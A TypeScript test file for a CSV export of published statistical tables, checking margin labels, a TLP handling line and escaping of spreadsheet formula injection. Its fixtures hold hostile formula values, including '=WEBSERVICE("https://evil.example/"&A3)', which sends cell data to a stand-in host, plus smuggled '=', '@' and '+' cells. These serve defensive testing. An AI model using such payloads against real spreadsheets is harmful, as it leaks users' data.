/** A released table as rows and as CSV: margins labelled, labels from data written as text. */
import { parse } from 'csv-parse/sync';
import { ALL, tableCsv, tableRows } from '../../src/aggregates/table-rows';
import type { PublishedTable } from '../../src/sdc';

const cell = (key: string[], value: number | null, status: 'ok' | 'rounded' | 'suppressed' = 'ok') => ({
  key,
  value,
  status,
});

/** A 2-D table whose labels are what a partner's free text could hold. */
const table: PublishedTable = {
  groupBy: ['theft.place', 'make'],
  measure: { sum: 'insuredValue' },
  dimensions: [
    ['=HYPERLINK("http://x")', '#Utrecht'],
    ['Bayliner', 'A, "quoted"\nline'],
  ],
  withheld: false,
  cells: [
    cell(['=HYPERLINK("http://x")', 'Bayliner'], 400_000),
    cell(['=HYPERLINK("http://x")', 'A, "quoted"\nline'], null, 'suppressed'),
    cell(['#Utrecht', 'Bayliner'], 300_000, 'rounded'),
    cell(['#Utrecht', 'A, "quoted"\nline'], -5),
  ],
  margins: {
    rows: [cell(['=HYPERLINK("http://x")'], 900_000), cell(['#Utrecht'], 700_000)],
    columns: [cell(['Bayliner'], 700_000)],
    total: cell([], 1_600_000, 'rounded'),
  },
};

describe('tableRows', () => {
  it('lists the cells, then rows’, columns’ and the grand total, margins labelled (all)', () => {
    const rows = tableRows(table);
    expect(rows.map((r) => [r.margin ?? 'cell', ...r.labels])).toEqual([
      ['cell', '=HYPERLINK("http://x")', 'Bayliner'],
      ['cell', '=HYPERLINK("http://x")', 'A, "quoted"\nline'],
      ['cell', '#Utrecht', 'Bayliner'],
      ['cell', '#Utrecht', 'A, "quoted"\nline'],
      ['row', '=HYPERLINK("http://x")', ALL],
      ['row', '#Utrecht', ALL],
      ['column', ALL, 'Bayliner'],
      ['total', ALL, ALL],
    ]);
    expect(rows.at(-1)).toMatchObject({ key: [], value: 1_600_000, status: 'rounded' });
  });

  it('a table without totals has no margin rows', () => {
    const rows = tableRows({ ...table, margins: { total: null } });
    expect(rows.every((r) => r.margin === undefined)).toBe(true);
    expect(rows).toHaveLength(4);
  });
});

describe('tableCsv', () => {
  const csv = tableCsv(table, 'TLP:AMBER — Limited disclosure.\nNo onward disclosure.');
  const parsed: string[][] = parse(csv, { bom: true, comment: '#' });
  const ENTRIES = ['cell', 'cell', 'cell', 'cell', 'row total', 'row total', 'column total', 'total'];

  it('starts with a byte-order mark and the handling on one comment line, then the header', () => {
    expect(csv.startsWith('\uFEFF# TLP:AMBER — Limited disclosure. No onward disclosure.\r\n')).toBe(true);
    expect(parsed[0]).toEqual(['theft.place', 'make', 'sum of insuredValue', 'status', 'entry']);
  });

  it('reads back as the rows, each saying what it is; a label a spreadsheet would run is written as text', () => {
    expect(parsed.slice(1)).toEqual(
      tableRows(table).map((r, i) => [
        ...r.labels.map((l) => (l.startsWith('=') ? `'${l}` : l)),
        r.value === null ? '' : String(r.value),
        r.status,
        ENTRIES[i],
      ]),
    );
    // A negative value is a number, not a formula: left as it is.
    expect(parsed[4][2]).toBe('-5');
    expect(csv).not.toMatch(/^=|,=/m);
  });

  it('a category named "(all)" is told from a total by its entry', () => {
    const allNamed: PublishedTable = {
      groupBy: ['make'],
      measure: 'count',
      dimensions: [[ALL]],
      withheld: false,
      cells: [cell([ALL], 900)],
      margins: { total: cell([], 925) },
    };
    const rows: string[][] = parse(tableCsv(allNamed, 'TLP:AMBER'), { bom: true, comment: '#' });
    expect(rows.slice(1)).toEqual([
      [ALL, '900', 'ok', 'cell'],
      [ALL, '925', 'ok', 'total'],
    ]);
  });

  /** Every cell a reader splitting on `separator` would see, line by line (quotes respected). */
  const cellsSplitOn = (text: string, separator: string): string[] =>
    (
      parse(text, {
        bom: true,
        delimiter: separator,
        relax_column_count: true,
        relax_quotes: true,
      }) as string[][]
    ).flat();

  it('nothing a partner or a responder wrote becomes a cell of its own that runs, whatever the separator', () => {
    const hostile: PublishedTable = {
      groupBy: ['make'],
      measure: 'count',
      dimensions: [['Bayliner;=1+1;x', 'a\t=2+2', '@SUM(A1)', '+1', '-1+1']],
      withheld: false,
      cells: ['Bayliner;=1+1;x', 'a\t=2+2', '@SUM(A1)', '+1', '-1+1'].map((l) => cell([l], 10)),
      margins: { total: cell([], 50) },
    };
    // A condition typed by a responder, made to break out of the marking line.
    const text = tableCsv(hostile, 'TLP:AMBER — see,=WEBSERVICE("https://evil.example/"&A3),; "x"\t=3+3');
    for (const separator of [',', ';', '\t']) {
      for (const value of cellsSplitOn(text, separator)) expect(value).not.toMatch(/^\s*[=+\-@]/);
    }
    const marking = text.split('\r\n')[0];
    expect(marking.startsWith('\uFEFF# TLP:AMBER — see =WEBSERVICE(')).toBe(true);
    expect(marking).not.toMatch(/[,;\t"]/);
  });
});
